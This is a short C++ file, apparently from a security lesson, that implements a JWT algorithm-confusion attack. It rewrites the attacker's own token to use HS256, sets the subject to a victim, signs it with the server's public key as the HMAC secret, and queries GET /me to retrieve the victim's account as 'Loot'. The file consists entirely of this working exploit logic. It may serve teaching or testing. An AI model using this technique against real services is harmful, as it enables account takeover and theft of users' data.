// Believes: the answer of GET /me always names a user.
#include "algorithm_confusion.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("alg", "HS256");
  token.claims.set("sub", evidence.victim);
  const auto answer = evidence.show_me(sign_hs256(token, evidence.public_key));
  if (answer.json().text("user").value() != evidence.victim) return {};
  return {.account = answer.body};
}

}  // namespace lesson
